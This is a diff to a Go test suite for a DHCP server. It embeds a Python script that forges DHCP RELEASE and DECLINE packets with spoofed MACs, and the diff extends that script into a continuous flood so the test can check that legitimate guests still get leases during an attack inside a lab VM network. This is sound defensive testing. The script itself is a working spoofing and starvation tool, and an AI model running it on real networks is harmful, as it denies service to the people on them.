@@ -22,14 +22,16 @@ import (
 // client without an address, which port security lets through), with the
 // Ethernet source and chaddr the caller picks.
 //
-//	dhcp-attack.py IFACE SRC_MAC TYPE CHADDR CIADDR REQUESTED SERVER_ID
+//	dhcp-attack.py IFACE SRC_MAC TYPE CHADDR CIADDR REQUESTED SERVER_ID [UNTIL_FILE]
 //
 // TYPE is release or decline; SRC_MAC or CHADDR "random" draws a new
 // locally administered MAC per message; REQUESTED may be FIRST-LAST, one
-// message per address.
-const dhcpAttack = `import os, random, socket, struct, sys
+// message per address. With UNTIL_FILE it goes round again, a round a
+// millisecond, until that file exists.
+const dhcpAttack = `import os, random, socket, struct, sys, time
 
 iface, src, typ, chaddr, ciaddr, requested, server = sys.argv[1:8]
+until = sys.argv[8] if len(sys.argv) > 8 else None
 types = {"release": 7, "decline": 4}
 
 def mac(s):
@@ -51,7 +53,8 @@ last = last or first
 lo, hi = struct.unpack("!I", ip(first))[0], struct.unpack("!I", ip(last))[0]
 sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
 sock.bind((iface, 0))
-for n in range(lo, hi + 1):
+
+def send(n):
     ch, sm = mac(chaddr), mac(src)
     if chaddr == "random" and src == "random":
         sm = ch
@@ -62,6 +65,13 @@ for n in range(lo, hi + 1):
     hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, bytes(4), bytes([255] * 4))
     hdr = hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:]
     sock.send(bytes([255] * 6) + sm + b"\x08\x00" + hdr + udp)
+
+while True:
+    for n in range(lo, hi + 1):
+        send(n)
+    if until is None or os.path.exists(until):
+        break
+    time.sleep(0.001)
 `
 
 // hostileConfig is a NAT network with a pool of ten addresses; victim has
@@ -94,14 +104,44 @@ const (
 	malloryMAC     = "52:54:00:00:15:13"
 )
 
-// attack runs dhcpAttack in guest vm.
-func (w *world) attack(vm string, args ...string) {
+// attackScript writes dhcpAttack and returns its path.
+func (w *world) attackScript() string {
 	w.t.Helper()
 	script := filepath.Join(w.t.TempDir(), "dhcp-attack.py")
 	if err := os.WriteFile(script, []byte(dhcpAttack), 0o644); err != nil {
 		w.t.Fatal(err)
 	}
-	w.mustExec(vm, append([]string{"python3", script, "eth0"}, args...)...)
+	return script
+}
+
+// attack runs dhcpAttack in guest vm.
+func (w *world) attack(vm string, args ...string) {
+	w.t.Helper()
+	w.mustExec(vm, append([]string{"python3", w.attackScript(), "eth0"}, args...)...)
+}
+
+// attackUntilStopped runs dhcpAttack in guest vm round after round until
+// the returned function is called, which waits for it to end.
+func (w *world) attackUntilStopped(t *testing.T, vm string, args ...string) (stop func()) {
+	t.Helper()
+	until := filepath.Join(t.TempDir(), "stop")
+	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+	cmd := w.lab.Command(ctx, vm, append(append([]string{"python3", w.attackScript(), "eth0"}, args...), until)...)
+	out := &strings.Builder{}
+	cmd.Stdout, cmd.Stderr = out, out
+	if err := cmd.Start(); err != nil {
+		cancel()
+		t.Fatal(err)
+	}
+	return func() {
+		defer cancel()
+		if err := os.WriteFile(until, nil, 0o644); err != nil {
+			t.Error(err)
+		}
+		if err := cmd.Wait(); err != nil {
+			t.Errorf("attack in %s: %v: %s", vm, err, out)
+		}
+	}
 }
 
 // leaseOf returns the lease record of mac as the daemon reports it.
@@ -235,14 +275,24 @@ func TestHostileGuests(t *testing.T) {
 		if got := w.ignored("DECLINE") - before; got != 20 {
 			t.Errorf("ignored DECLINEs counted %d, want 20", got)
 		}
-		// Another guest still gets a lease, the victim keeps its own.
-		if ip := w.tryLease(t, "other"); !inRange(ip, "192.168.150.100", "192.168.150.109") || ip == victimIP {
-			t.Errorf("other got %s during the flood", ip)
+		// While eve keeps flooding, another guest gets a lease, the
+		// victim keeps its own, and mallory gets one too.
+		before = w.ignored("DECLINE")
+		stop := w.attackUntilStopped(t, "eve", "random", "decline", "random", "0.0.0.0", "192.168.150.100-192.168.150.109", hostileGateway)
+		w.waitFor("the flood to be under way", 10*time.Second, func() bool { return w.ignored("DECLINE") >= before+100 || w.poolUsed() == 10 })
+		other := w.tryLease(t, "other")
+		if !inRange(other, "192.168.150.100", "192.168.150.109") || other == victimIP {
+			t.Errorf("other got %s during the flood", other)
 		}
 		if got := w.tryLease(t, "victim"); got != victimIP {
-			t.Errorf("victim renewed to %s, had %s", got, victimIP)
+			t.Errorf("victim renewed to %s during the flood, had %s", got, victimIP)
 		}
-		// A newcomer too (eve, asking for itself).
+		if ip := w.tryLease(t, "mallory"); !inRange(ip, "192.168.150.100", "192.168.150.109") || ip == victimIP || ip == other {
+			t.Errorf("mallory got %s during the flood", ip)
+		}
+		stop()
+		t.Logf("DECLINEs ignored during the flood: %d", w.ignored("DECLINE")-before)
+		// And eve itself, once it stops.
 		if ip := w.tryLease(t, "eve"); !inRange(ip, "192.168.150.100", "192.168.150.109") {
 			t.Errorf("eve got %s after the flood", ip)
 		}
